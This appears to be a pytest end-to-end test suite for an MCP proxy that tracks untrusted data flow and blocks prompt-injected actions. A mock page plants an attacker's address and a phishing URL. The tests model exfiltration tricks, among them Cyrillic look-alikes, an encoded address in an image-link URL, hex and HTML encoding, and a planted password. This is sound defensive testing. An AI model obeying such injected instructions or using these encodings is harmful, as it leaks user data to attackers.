"""Data flow through the wire: the real proxy process, the official SDK client and a small SDK
upstream (`mail_server.py`) whose `fetch_page` returns a page with an injected instruction
(an attacker's address and a phishing URL) and whose `send_email` is the sink.

Each test uses its own run (`X-Envelope-Run`), so ledgers never mix.
"""

from __future__ import annotations

import base64
import hashlib
import json
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from e2e_helpers import mail_server, write_doc
from mail_server import ATTACKER, NOTICE, PAGE, PASSWORD, PHISH

from proxy.envelope.dataflow.ledger import LedgerDelta
from proxy.envelope.labels import Label, Piece
from tests.harness import (
    ProxyProcess,
    mcp_client,
    metric_value,
    proxy_process,
    token,
)

AGENT = token("agent")
ALICE_TOKEN = "alice-approver-token"


def _policy(directory: Path, mode: str, **dataflow: Any) -> Path:
    tools: dict[str, Any] = {}
    for up in ("mail", "escalate"):
        tools[f"{up}.fetch_page"] = {"effect": "read"}
        tools[f"{up}.read_secrets"] = {"effect": "read", "output": "trusted", "sensitivity": "secret"}
        tools[f"{up}.send_email"] = {
            "effect": "external", "approval": {"required": False, "wait": "0s"},
            "schema": {"type": "object", "required": ["to", "subject", "body"], "properties": {
                "to": {"type": "string"}, "subject": {"type": "string"}, "body": {"type": "string"},
                "priority": {"enum": ["low", "normal", "high"]}}},
        }
        tools[f"{up}.fetch_notice"] = {"effect": "read"}
        tools[f"{up}.set_password"] = {"effect": "write"}
    doc = {
        "version": 1,
        "upstreams": {u: {"url": "http://127.0.0.1:1/mcp", "timeout": "10s"} for u in ("mail", "escalate")},
        "tools": tools,
        "dataflow": {
            "mode": mode,
            "declassify": {"mail.send_email": ["body"], "escalate.send_email": ["body"]},
            "on_flag": {"default": "block", "escalate.send_email": "approve"},
            **dataflow,
        },
    }
    return write_doc(directory, doc)


def _config() -> dict[str, Any]:
    return {"approvals": {"poll_interval": "100ms", "approvers": {
        "alice": {"token_sha256": hashlib.sha256(ALICE_TOKEN.encode()).hexdigest()}}}}


@pytest.fixture(scope="module")
def upstream_url() -> Iterator[str]:
    with mail_server() as url:
        yield url


@pytest.fixture(scope="module")
def enforcing(tmp_path_factory: pytest.TempPathFactory, upstream_url: str) -> Iterator[ProxyProcess]:
    tmp = tmp_path_factory.mktemp("dataflow-enforce")
    with proxy_process(tmp, {"mail": upstream_url, "escalate": upstream_url},
                       policies=_policy(tmp / "policies", "enforce"), config=_config()) as pp:
        yield pp


@pytest.fixture(scope="module")
def valued(tmp_path_factory: pytest.TempPathFactory, upstream_url: str) -> Iterator[ProxyProcess]:
    """Enforcing, with whole-value matching switched on at the recommended min_value."""
    tmp = tmp_path_factory.mktemp("dataflow-values")
    with proxy_process(tmp, {"mail": upstream_url}, policies=_policy(tmp / "policies", "enforce", min_value=10),
                       config=_config()) as pp:
        yield pp


@pytest.fixture(scope="module")
def shadowing(tmp_path_factory: pytest.TempPathFactory, upstream_url: str) -> Iterator[ProxyProcess]:
    tmp = tmp_path_factory.mktemp("dataflow-shadow")
    with proxy_process(tmp, {"mail": upstream_url}, policies=_policy(tmp / "policies", "shadow"),
                       config=_config()) as pp:
        yield pp


def _run() -> dict[str, str]:
    return {"X-Envelope-Run": f"run-{uuid.uuid4().hex}"}


async def _call(url: str, run: dict[str, str], tool: str, args: dict[str, Any]) -> Any:
    async with mcp_client(url, "auto", bearer=AGENT, headers=run) as c:
        return await c.call_tool(tool, args)


def _decision(result: Any) -> dict[str, Any]:
    return dict((result.meta or {}).get("envelope/decision") or {})


def _record(pp: ProxyProcess, decision_id: str) -> dict[str, Any]:
    found = [r for r in pp.audit_records() if r["decision_id"] == decision_id]
    assert len(found) == 1, found
    return found[0]


def _email(to: str, body: str, subject: str = "Report") -> dict[str, Any]:
    return {"to": to, "subject": subject, "body": body, "priority": "normal"}


async def test_injected_address_is_refused_in_enforce(enforcing: ProxyProcess) -> None:
    run = _run()
    url = enforcing.url("mail")
    page = await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
    assert ATTACKER in page.content[0].text
    r = await _call(url, run, "send_email", _email(ATTACKER.upper(), "Here is the customer list."))
    d = _decision(r)
    assert r.is_error and d["code"] == "dataflow_policy_blocked", d
    assert "'/to'" in d["reason"] and "mail.fetch_page" in d["reason"], d
    rec = _record(enforcing, d["decision_id"])
    flow = rec["extra"]["dataflow"]
    assert flow["mode"] == "enforce" and flow["evidence"][0]["argument"] == "/to"
    assert flow["evidence"][0]["source"] == "mail.fetch_page"
    assert metric_value(enforcing.metrics(), "envelope_dataflow_flagged_total",
                        tool="send_email", mode="enforce") >= 1


_CYRILLIC = str.maketrans("aeo", "\u0430\u0435\u043e")


@pytest.mark.parametrize("disguise", [
    lambda a: a.translate(_CYRILLIC),                                   # look-alike letters
    lambda a: "".join(c + "\u0301" if c.isalpha() else c for c in a),  # combining marks
    lambda a: a.replace("@", "@relay."),                                 # a subdomain of its host
])
async def test_a_disguised_injected_address_is_refused_in_enforce(enforcing: ProxyProcess, disguise: Any) -> None:
    """The attacker's address written with Cyrillic look-alikes or strewn with accents (the
    agent told to "write it in the customer's alphabet"), or at a subdomain of its host, is
    still the address the page gave."""
    run = _run()
    url = enforcing.url("mail")
    await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
    r = await _call(url, run, "send_email", _email(disguise(ATTACKER), "Here is the customer list."))
    d = _decision(r)
    assert r.is_error and d["code"] == "dataflow_policy_blocked", d
    evidence = _record(enforcing, d["decision_id"])["extra"]["dataflow"]["evidence"]
    assert {(e["argument"], e["kind"], e["source"]) for e in evidence} >= {("/to", "token", "mail.fetch_page")}


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize("carrier", [
    lambda a: f"Status ![ok](https://img.example/pixel.png?u={_b64(a)})",  # base64 in an image link
    lambda a: "Reply to " + quote(a, safe=""),                              # percent-encoded
    lambda a: "Reply to " + "".join(f"&#{ord(c)};" for c in a),             # HTML references
    lambda a: "Ref " + a.encode().hex(),                                     # hex
    lambda a: "Reply to " + a.replace("@", " [at] ").replace(".", " dot "),  # spelled out
])
async def test_an_encoded_injected_address_in_a_declassified_body_is_refused(enforcing: ProxyProcess,
                                                                              carrier: Any) -> None:
    """The body may quote the page (declassified), not carry the attacker's address, however the
    agent was told to encode it: it is decoded before it is matched."""
    run = _run()
    url = enforcing.url("mail")
    await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
    r = await _call(url, run, "send_email", _email("boss@corp.example", carrier(ATTACKER)))
    d = _decision(r)
    assert r.is_error and d["code"] == "dataflow_policy_blocked", d
    evidence = _record(enforcing, d["decision_id"])["extra"]["dataflow"]["evidence"]
    assert any(e["argument"] == "/body" and e["kind"] == "token" and e["snippet"] == ATTACKER for e in evidence)


async def test_stateless_run_is_the_principal_and_its_client(enforcing: ProxyProcess) -> None:
    """Without X-Envelope-Run or a session, a stateless client's run is its principal plus the
    client it introduces itself as: a second connection of the same client is the same run
    (the taint it read still counts), another client program of the principal is another run."""
    url = enforcing.url("mail")
    name = f"planner-{uuid.uuid4().hex[:8]}"
    async with mcp_client(url, "auto", bearer=AGENT, client_info=(name, "1.2")) as c:
        await c.call_tool("fetch_page", {"url": "https://news.example/q3"})
    async with mcp_client(url, "auto", bearer=AGENT, client_info=(name, "1.2")) as c:
        again = await c.call_tool("send_email", _email(ATTACKER, "Here is the customer list."))
    assert _decision(again)["code"] == "dataflow_policy_blocked", again
    assert _record(enforcing, _decision(again)["decision_id"])["run"] == f"principal:agent/client:{name}@1.2"
    async with mcp_client(url, "auto", bearer=AGENT, client_info=(f"other-{name}", "1.0")) as c:
        other = await c.call_tool("send_email", _email(ATTACKER, "Here is the customer list."))
    assert not other.is_error, other.content
    rec = [r for r in enforcing.audit_records() if r["tool"] == "send_email"][-1]
    assert rec["run"] == f"principal:agent/client:other-{name}@1.0" and rec["verdict"] == "allow"


async def test_injected_address_is_forwarded_and_flagged_in_shadow(shadowing: ProxyProcess) -> None:
    run = _run()
    url = shadowing.url("mail")
    await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
    before = metric_value(shadowing.metrics(), "envelope_dataflow_flagged_total",
                          tool="send_email", mode="shadow")
    r = await _call(url, run, "send_email", _email(ATTACKER, "Here is the list."))
    assert not r.is_error, r
    assert r.structured_content["sent"] is True
    rec = _record(shadowing, _decision(r)["decision_id"]) if _decision(r) else \
        [x for x in shadowing.audit_records() if x["tool"] == "send_email"][-1]
    assert rec["verdict"] == "allow"
    flow = rec["extra"]["dataflow"]
    assert flow["flagged"] and flow["mode"] == "shadow"
    assert any(e["argument"] == "/to" and e["kind"] == "token" for e in flow["evidence"])
    after = metric_value(shadowing.metrics(), "envelope_dataflow_flagged_total",
                         tool="send_email", mode="shadow")
    assert after == before + 1


async def test_declassified_body_quoting_the_page_is_allowed(enforcing: ProxyProcess) -> None:
    run = _run()
    url = enforcing.url("mail")
    await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
    quote = PAGE[:84]  # "Quarterly report: revenue grew 12 percent ..."
    r = await _call(url, run, "send_email", _email("boss@corp.example", f"Summary: {quote}"))
    assert not r.is_error, r.content
    rec = [x for x in enforcing.audit_records() if x["run"] == run["X-Envelope-Run"]][-1]
    assert rec["tool"] == "send_email" and rec["verdict"] == "allow"
    declassified = rec["extra"]["dataflow_declassified"]
    assert declassified[0]["argument"] == "/body" and declassified[0]["source"] == "mail.fetch_page"


async def test_phishing_url_inside_declassified_body_is_refused(enforcing: ProxyProcess) -> None:
    run = _run()
    url = enforcing.url("mail")
    await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
    body = "Hi team, please confirm your account at login.attacker-pay.example/verify/ today."
    r = await _call(url, run, "send_email", _email("team@corp.example", body))
    d = _decision(r)
    assert d["code"] == "dataflow_policy_blocked", d
    assert "'/body'" in d["reason"] and "attacker-pay.example" in d["reason"]
    assert PHISH.startswith("https://login.attacker-pay.example")


async def test_benign_flow_passes(enforcing: ProxyProcess) -> None:
    run = _run()
    url = enforcing.url("mail")
    await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
    r = await _call(url, run, "send_email",
                    _email("boss@corp.example", "Revenue went up this quarter, details tomorrow.",
                           subject="Quarter summary"))
    assert not r.is_error, r.content
    assert r.structured_content["sent"] is True


async def test_by_default_a_short_value_copied_whole_passes(enforcing: ProxyProcess) -> None:
    """min_value is off by default: the planted password reaches its sink, and the notice's
    recorded fingerprints are grams and tokens only (no phrase)."""
    run = _run()
    url = enforcing.url("mail")
    await _call(url, run, "fetch_notice", {"url": "https://intranet.example/it"})
    r = await _call(url, run, "set_password", {"account": "me", "password": PASSWORD})
    assert not r.is_error, r.content
    assert r.structured_content["set"] is True
    rec = [x for x in enforcing.audit_records() if x["run"] == run["X-Envelope-Run"]][-1]
    assert rec["tool"] == "set_password" and rec["verdict"] == "allow", rec


async def test_phrases_are_recorded_only_when_min_value_is_on(enforcing: ProxyProcess,
                                                               valued: ProxyProcess) -> None:
    """The notice's recorded fingerprints (audit `dataflow_recorded`): off, exactly its grams
    and tokens, as before whole values existed; on, its phrases besides."""
    counts = []
    for pp in (enforcing, valued):
        run = _run()
        await _call(pp.url("mail"), run, "fetch_notice", {"url": "https://intranet.example/it"})
        rec = [x for x in pp.audit_records() if x["run"] == run["X-Envelope-Run"]][-1]
        assert rec["tool"] == "fetch_notice", rec
        counts.append(rec["extra"]["dataflow_recorded"]["fingerprints"])
    piece = [Piece(NOTICE, Label(True, False), "t")]
    grams_and_tokens = LedgerDelta.of("mail.fetch_notice", piece, 32)
    phrases = LedgerDelta.of("mail.fetch_notice", piece, 32, min_value=10).values
    assert counts == [len(grams_and_tokens.grams) + len(grams_and_tokens.tokens),
                      len(grams_and_tokens.grams) + len(grams_and_tokens.tokens) + len(phrases)]
    assert phrases and not grams_and_tokens.values


async def test_a_short_value_copied_whole_is_refused_unless_the_user_named_it(valued: ProxyProcess) -> None:
    """With `min_value: 10`: the planted password is refused, in the user's words allowed."""
    run = _run()
    url = valued.url("mail")
    await _call(url, run, "fetch_notice", {"url": "https://intranet.example/it"})
    r = await _call(url, run, "set_password", {"account": "me", "password": PASSWORD})
    d = _decision(r)
    assert r.is_error and d["code"] == "dataflow_policy_blocked", d
    assert "argument '/password'" in d["reason"] and "mail.fetch_notice" in d["reason"]
    rec = _record(valued, d["decision_id"])
    assert rec["rule"] == "dataflow.value"
    assert rec["extra"]["dataflow"]["evidence"][0]["kind"] == "value"
    # The same value in the user's words (X-Envelope-Intent, sent by the framework): allowed.
    said = {**run, "X-Envelope-Intent": quote(f"Change my password to {PASSWORD} please")}
    r = await _call(url, said, "set_password", {"account": "me", "password": PASSWORD})
    assert not r.is_error, r.content
    assert r.structured_content["set"] is True
    rec = [x for x in valued.audit_records() if x["run"] == run["X-Envelope-Run"]][-1]
    assert rec["tool"] == "set_password" and rec["verdict"] == "allow", rec
    assert rec["extra"]["endorsed"] == [{"arg": "/password", "by": "intent", "kind": "value"}]


async def test_trifecta_fires(enforcing: ProxyProcess) -> None:
    run = _run()
    url = enforcing.url("mail")
    # Secret alone: a sink may fire.
    await _call(url, run, "read_secrets", {"name": "db"})
    ok = await _call(url, run, "send_email", _email("boss@corp.example", "All good.", "Status"))
    assert not ok.is_error, ok.content
    # Untrusted too: any sink is refused, even without a verbatim match.
    await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
    r = await _call(url, run, "send_email", _email("boss@corp.example", "All good.", "Status"))
    d = _decision(r)
    assert d["code"] == "dataflow_policy_blocked" and d["rule"] == "dataflow.trifecta", d
    assert "trifecta" in d["reason"] and "mail.read_secrets" in d["reason"]


async def test_on_flag_approve_sends_the_call_to_the_approval_gate(enforcing: ProxyProcess) -> None:
    run = _run()
    url = enforcing.url("escalate")
    await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
    args = _email(ATTACKER, "As requested.")
    r = await _call(url, run, "send_email", args)
    d = _decision(r)
    assert d["code"] == "approval_pending", d
    rec = _record(enforcing, d["decision_id"])
    assert rec["extra"]["dataflow"]["on_flag"] == "approve"
    approval_id = rec["extra"]["approval_id"]
    headers = {"Authorization": f"Bearer {ALICE_TOKEN}"}
    async with httpx.AsyncClient(base_url=enforcing.admin, timeout=10) as http:
        shown = (await http.get(f"/v1/approvals/{approval_id}", headers=headers)).json()
        assert "data flow" in shown["reason"] and "'/to'" in shown["reason"], shown
        assert "mail.fetch_page" not in shown["reason"] and "escalate.fetch_page" in shown["reason"]
        ok = await http.post(f"/v1/approvals/{approval_id}/approve", headers=headers,
                             json={"reason": "the user asked for it"})
        assert ok.status_code == 200, ok.text
    again = await _call(url, run, "send_email", args)
    assert not again.is_error, again.content
    assert again.structured_content["sent"] is True


async def test_replicas_share_the_ledger_through_redis(tmp_path: Path, upstream_url: str) -> None:
    from tests.redis_server import running_redis

    with running_redis(tmp_path) as server:
        config = {**_config(), "store": {"kind": "redis", "url": server.url, "timeout": 1.0}}
        policies = _policy(tmp_path / "policies", "enforce")
        (tmp_path / "a").mkdir()
        (tmp_path / "b").mkdir()
        with proxy_process(tmp_path / "a", {"mail": upstream_url}, policies=policies,
                           config=config) as a, \
                proxy_process(tmp_path / "b", {"mail": upstream_url}, policies=policies,
                              config=config) as b:
            run = _run()
            await _call(a.url("mail"), run, "fetch_page", {"url": "https://news.example/q3"})
            r = await _call(b.url("mail"), run, "send_email", _email(ATTACKER, "List attached."))
            d = _decision(r)
            assert d["code"] == "dataflow_policy_blocked", d
            assert "mail.fetch_page" in d["reason"]
            other = await _call(b.url("mail"), _run(), "send_email", _email(ATTACKER, "Hi."))
            assert not other.is_error, other.content  # another run holds no taint


async def test_an_output_that_cannot_be_recorded_is_withheld(tmp_path: Path, upstream_url: str) -> None:
    """Fail closed on the result side: with the store gone, an untrusted page the ledger
    cannot record never reaches the agent (store_unavailable, audited with what was withheld);
    once the store is back, the same read works and is recorded. (An output this process
    recorded moments ago is not written again, so the withheld read is a new one.)"""
    from tests.redis_server import running_redis

    with running_redis(tmp_path) as server:
        config = {**_config(), "store": {"kind": "redis", "url": server.url, "timeout": 1.0},
                  "aggregate": {"enabled": True, "upstreams": ["mail"]}}
        (tmp_path / "p").mkdir()
        with proxy_process(tmp_path / "p", {"mail": upstream_url}, config=config,
                           policies=_policy(tmp_path / "policies", "enforce")) as pp:
            url, run = pp.url("mail"), _run()
            await _call(url, run, "read_secrets", {"name": "db"})
            mine = [r for r in pp.audit_records() if r["run"] == run["X-Envelope-Run"]]
            assert mine[-1]["extra"]["dataflow_recorded"]["secret"] is True
            server.kill()
            cut = await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
            d = _decision(cut)
            assert cut.is_error and d["code"] == "store_unavailable", cut.content
            assert "withheld" in d["reason"] and ATTACKER not in cut.content[0].text
            rec = _record(pp, d["decision_id"])
            assert rec["verdict"] == "error" and rec["code"] == "store_unavailable"
            assert rec["extra"]["withheld"] == {"verdict": "allow", "code": "ok"}
            assert "ledger not updated" in rec["extra"]["dataflow_error"]
            # the aggregated route withholds it the same way
            via_agg = await _call(f"{pp.base}/mcp", run, "mail.fetch_page", {"url": "https://news.example/q3"})
            assert via_agg.is_error and _decision(via_agg)["code"] == "store_unavailable", via_agg.content
            assert ATTACKER not in via_agg.content[0].text
            server.start()
            again = await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
            assert not again.is_error and ATTACKER in again.content[0].text
            # and the taint it carries still blocks the attacker's address
            r = await _call(url, run, "send_email", _email(ATTACKER, "List attached."))
            assert _decision(r)["code"] == "dataflow_policy_blocked", r.content


async def test_cel_sees_run_tainted_through_the_wire(tmp_path: Path, upstream_url: str) -> None:
    """`run.tainted` in a forbid rule is true once the run has read untrusted content: the
    same e-mail is sent by a clean run and refused by the rule in a run that fetched a page."""
    policies = _policy(tmp_path / "policies", "shadow")
    doc = json.loads((policies / "policy.yaml").read_text())
    doc["tools"]["mail.send_email"]["rules"] = [
        {"id": "clean-runs-only", "forbid": "run.tainted", "reason": "the run has read untrusted content"}]
    write_doc(policies, doc)
    (tmp_path / "p").mkdir()
    with proxy_process(tmp_path / "p", {"mail": upstream_url}, policies=policies, config=_config()) as pp:
        url = pp.url("mail")
        clean = await _call(url, _run(), "send_email", _email("boss@corp.example", "Weekly notes."))
        assert not clean.is_error, clean.content
        run = _run()
        await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
        r = await _call(url, run, "send_email", _email("boss@corp.example", "Weekly notes."))
        d = _decision(r)
        assert d["code"] == "capability_blocked" and d["rule"] == "clean-runs-only", d
        assert "untrusted content" in d["reason"]


async def test_a_run_whose_ledger_redis_lost_stays_tainted(tmp_path: Path, upstream_url: str) -> None:
    """Redis restarted empty (no persistence) loses every run's ledger: a run that had read the
    attacker's page must not come back clean. The proxy knows how far it read or wrote each
    run's log; a log found shorter while it cannot have expired was lost, so the run counts as
    tainted and coarse (written back to the store, so every replica sees it), and the attacker's
    address is refused, naming the loss. A run started after the loss is clean as ever."""
    from tests.redis_server import running_redis

    with running_redis(tmp_path) as server:
        config = {**_config(), "store": {"kind": "redis", "url": server.url, "timeout": 1.0}}
        (tmp_path / "p").mkdir()
        with proxy_process(tmp_path / "p", {"mail": upstream_url}, config=config,
                           policies=_policy(tmp_path / "policies", "enforce")) as pp:
            url = pp.url("mail")
            read_only, checked = _run(), _run()
            for run in (read_only, checked):
                await _call(url, run, "fetch_page", {"url": "https://news.example/q3"})
            before = await _call(url, checked, "send_email", _email(ATTACKER, "List attached."))
            assert _decision(before)["code"] == "dataflow_policy_blocked", before.content
            server.kill()
            server.start()  # the same port, empty
            for run in (read_only, checked):
                r = await _call(url, run, "send_email", _email(ATTACKER, "List attached."))
                d = _decision(r)
                assert r.is_error and d["code"] == "dataflow_policy_blocked", r.content
                assert "state store lost the run's ledger" in d["reason"], d
            # Reading the page again (already recorded moments ago, so not written again)
            # changes nothing: the run stays refused.
            await _call(url, read_only, "fetch_page", {"url": "https://news.example/q3"})
            again = await _call(url, read_only, "send_email", _email(ATTACKER, "List attached."))
            assert _decision(again)["code"] == "dataflow_policy_blocked", again.content
            fresh = await _call(url, _run(), "send_email", _email("boss@corp.example", "Weekly notes."))
            assert not fresh.is_error, fresh.content
            assert "lost the data-flow ledger of run" in pp.log()
